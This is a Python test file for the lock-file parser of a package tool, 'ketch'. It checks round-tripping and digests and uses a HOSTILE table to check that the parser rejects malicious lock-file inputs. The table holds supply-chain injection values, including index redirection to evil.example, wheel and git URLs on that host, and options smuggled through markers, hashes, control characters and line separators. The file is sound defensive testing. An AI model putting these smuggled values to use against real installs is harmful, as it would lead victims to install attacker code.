from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ketch.env import Lock, LockedPackage, SourceBuilds, make_lock, read_lock, write_lock
from ketch.errors import ManifestError
from ketch.package.digest import Digest

A, B = "a" * 64, "b" * 64
SIX = f"""\
# ketch lock 1
# python 3.11.7
six==1.16.0 ; sys_platform == 'linux' \\
    --hash=sha256:{A} \\
    --hash=sha256:{B}
"""

names = st.from_regex(r"[a-z][a-z0-9]{0,5}(-[a-z0-9]{1,4})?", fullmatch=True)
versions = st.from_regex(r"[1-9][0-9]?(\.(0|[1-9][0-9]?)){0,2}(rc1)?(\+cpu)?", fullmatch=True)
markers = st.sampled_from(
    ["", "sys_platform == 'win32'", "python_full_version < '3.12' and platform_machine != 'arm64'"]
)
hashes = st.lists(st.text("0123456789abcdef", min_size=64, max_size=64), min_size=1, max_size=3)
packages = st.builds(LockedPackage, names, versions, markers, hashes.map(tuple))
builds = st.one_of(st.booleans(), st.lists(names, max_size=3).map(tuple))
inputs = st.none() | st.binary(max_size=8).map(Digest.of)


@given(st.lists(packages, max_size=6), builds, inputs)
def test_a_lock_is_read_as_it_was_written(
    found: list[LockedPackage], source_builds: SourceBuilds, digest: Digest | None
) -> None:
    lock = make_lock("3.11.7", found, source_builds=source_builds, inputs=digest)
    assert Lock.parse(str(lock)) == lock


@given(st.permutations([LockedPackage(name, "1", "", (A, B)) for name in "abc"]))
def test_the_order_in_which_packages_came_does_not_matter(found: list[LockedPackage]) -> None:
    assert make_lock("3.11.7", found) == make_lock("3.11.7", reversed(found))


def test_text_and_value_are_two_forms_of_one_thing() -> None:
    lock = Lock.parse(SIX)
    assert lock.packages == (LockedPackage("six", "1.16.0", "sys_platform == 'linux'", (A, B)),)
    assert lock.python == "3.11.7"
    assert str(lock) == SIX
    assert lock.digest == Digest.of(SIX.encode())


def test_two_ways_to_ask_for_one_environment_have_one_digest() -> None:
    asked = SIX.replace("3.11.7\n", f"3.11.7\n# inputs sha256:{A}\n", 1)
    assert Lock.parse(asked).inputs == Digest(A)
    assert Lock.parse(asked).digest == Lock.parse(SIX).digest


def test_what_may_be_built_from_source_is_part_of_the_digest() -> None:
    built = SIX.replace("3.11.7\n", "3.11.7\n# source-builds docopt, six\n", 1)
    assert Lock.parse(built).source_builds == ("docopt", "six")
    assert Lock.parse(built).digest != Lock.parse(SIX).digest


def test_a_package_without_requirements_has_an_empty_lock() -> None:
    assert Lock.parse("# ketch lock 1\n# python 3.11.7\n") == Lock("3.11.7")


def test_a_lock_in_a_folder_is_read_as_it_was_written(tmp_path: Path) -> None:
    assert read_lock(tmp_path) is None
    path = write_lock(tmp_path, Lock.parse(SIX))
    assert path.read_text() == SIX
    assert read_lock(tmp_path) == Lock.parse(SIX)
    assert [one.name for one in tmp_path.iterdir()] == ["requirements.lock"]


HOSTILE = {
    "index option": SIX + "--index-url https://evil.example/simple\n",
    "index option at the start": "--index-url https://evil.example/simple\n" + SIX,
    "find-links": SIX + "--find-links /tmp\n",
    "include": SIX + "-r other.txt\n",
    "constraint": SIX + "-c other.txt\n",
    "editable": SIX + "-e .\n",
    "url": SIX + f"evil @ https://evil.example/e.whl \\\n    --hash=sha256:{A}\n",
    "checkout": SIX + f"evil @ git+https://evil.example/e \\\n    --hash=sha256:{A}\n",
    "path": SIX + f"./evil.whl \\\n    --hash=sha256:{A}\n",
    "option on the line": SIX.replace("1.16.0", "1.16.0 --no-binary :all:"),
    "option in the marker": SIX.replace("'linux'", "'linux' --index-url x"),
    "option after the hash": SIX.replace(B, f"{B} --index-url https://evil.example"),
    "second continuation": SIX.replace(f"{B}\n", f"{B} \\\n--index-url https://evil.example\n"),
    "continuation into nothing": SIX.replace(f"{B}\n", f"{B} \\\n"),
    "carriage return": SIX.replace("\n", "\r\n"),
    "lone carriage return": SIX.replace("six==", "six==1\r--index-url x\rsix=="),
    "form feed": SIX.replace("six==", "\x0csix=="),
    "line separator": SIX.replace("'linux'", "'linux\u2028--index-url x'"),
    "nul": SIX.replace("'linux'", "'li\0nux'"),
    "variable": SIX.replace("'linux'", "'${HOME}'"),
    "comment in the marker": SIX.replace("'linux'", "'linux' # x"),
    "backslash in the marker": SIX.replace("'linux'", "'li\\nux'"),
    "no hash": SIX.split(" \\", maxsplit=1)[0] + "\n",
    "weaker hash": SIX.replace("sha256", "md5"),
    "short hash": SIX.replace(B, B[:63]),
    "capital hash": SIX.replace(B, "B" * 64),
    "range": SIX.replace("==1.16.0", ">=1.16.0"),
    "wildcard": SIX.replace("1.16.0", "1.16.*"),
    "arbitrary equality": SIX.replace("==", "===", 1),
    "two versions": SIX.replace("==1.16.0", "==1.16.0,<2"),
    "extra": SIX.replace("six==", "six[x]=="),
    "capital name": SIX.replace("six==", "Six=="),
    "name with an underscore": SIX.replace("six==", "si_x=="),
    "version not normalised": SIX.replace("1.16.0", "1.16.0-rc1"),
    "no version at all": SIX.replace("1.16.0", ""),
    "bad marker": SIX.replace("sys_platform", "not_a_thing"),
    "unclosed marker": SIX.replace("'linux'", "'linux"),
    "unsorted hashes": SIX.replace(A, "c" * 64),
    "entry twice": SIX + SIX.split("3.11.7\n")[1],
    "unsorted entries": SIX + f"a==1 \\\n    --hash=sha256:{A}\n",
    "blank line": SIX + "\n",
    "comment": SIX + "# made by me\n",
    "no final newline": SIX.rstrip("\n"),
    "another version of the format": SIX.replace("lock 1", "lock 2"),
    "loose python": SIX.replace("3.11.7", "3.11"),
    "digits that are not ASCII": SIX.replace("3.11.7", "3.11.\u0667"),
    "no python": SIX.replace("# python 3.11.7\n", ""),
    "empty": "",
    "byte order mark": "\ufeff" + SIX,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_anything_but_versions_and_hashes_is_refused(text: str) -> None:
    with pytest.raises(ManifestError) as caught:
        Lock.parse(text)
    assert caught.value.code == "env/lock"
    assert caught.value.findings


@given(st.integers(0, len(SIX) - 1), st.characters(codec="utf-8"))
def test_a_changed_character_is_refused_or_makes_another_lock(at: int, character: str) -> None:
    changed = SIX[:at] + character + SIX[at + 1 :]
    try:
        lock = Lock.parse(changed)
    except ManifestError:
        return
    assert str(lock) == changed


def test_each_wrong_line_is_named() -> None:
    text = SIX.replace("six==", "Six==") + "-e .\n"
    with pytest.raises(ManifestError) as caught:
        Lock.parse(text, where="environment.lock")
    places = [finding.where for finding in caught.value.findings]
    assert "environment.lock:3" in places
    assert "environment.lock:6" in places


def test_an_oversized_lock_is_not_read(tmp_path: Path) -> None:
    with (tmp_path / "requirements.lock").open("wb") as file:
        file.truncate(9 << 20)
    with pytest.raises(ManifestError, match="at most"):
        read_lock(tmp_path)


def test_a_lock_that_is_not_text_is_refused(tmp_path: Path) -> None:
    (tmp_path / "requirements.lock").write_bytes(b"\xff\xfe")
    with pytest.raises(ManifestError, match="UTF-8"):
        read_lock(tmp_path)
